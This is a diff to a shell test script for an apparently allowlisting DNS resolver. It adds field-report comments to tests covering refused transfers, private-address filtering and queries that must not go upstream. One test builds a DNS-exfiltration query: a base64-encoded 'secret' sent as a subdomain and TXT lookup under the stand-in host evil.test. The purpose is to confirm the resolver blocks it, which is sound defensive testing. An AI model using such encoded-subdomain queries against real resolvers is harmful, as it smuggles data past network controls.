@@ -49,6 +49,7 @@ is "$(ask n udp 'allowed.test AAAA' 'six.test AAAA' 'svc.test HTTPS' \
 is "$(ask n udp 'allowed.test ANY' 'allowed.test AXFR' | sort -u)" \
 	"REFUSED ede=21" "ANY and transfers are refused"
 is "$(ask n udp gone.test)" NXDOMAIN "an allowed name that does not exist"
+# Addresses that a name does not open (field report 77).
 is "$(ask n udp private.test loopback.test metadata.test node.test \
 	toprivate.test | sort -u)" "NOERROR ede=15" \
 	"names with private addresses alone have none"
@@ -59,7 +60,7 @@ is "$(ask n udp '1.0.18.198.in-addr.arpa PTR')" NXDOMAIN "a reverse name"
 is "$(ask n udp 'within 5000 hang.test')" "SERVFAIL ede=22" \
 	"a name that nobody answers for is told within 5 seconds"
 
-# --- what never goes upstream ---------------------------------------------------
+# --- what never goes upstream (field report 73) ---------------------------------------------------
 secret=$(echo 'all the secrets of this house' | base64 | tr -d '=\n')
 is "$(ask n udp 'within 1000 evil.test' "$secret.evil.test" "$secret.evil.test TXT" \
 	"evil.test AAAA" "notallowed.test" "allowed.test.evil.test" \
@@ -151,6 +152,7 @@ is "$(ask r udp 'allowed.test AAAA' 'allowed.test HTTPS' | sort -u)" NOERROR \
 	"other types: no data"
 is "$(ask r udp other.evil.test 'other.evil.test TXT' | sort -u)" \
 	"NXDOMAIN ede=15" "what is not allowed"
+# No other resolver, whoever asks for one (field report 74).
 SERVER=198.51.100.53
 is "$(ask r udp allowed.test other.evil.test)" "NOERROR 198.51.100.10
 NXDOMAIN ede=15" "whatever server it names"
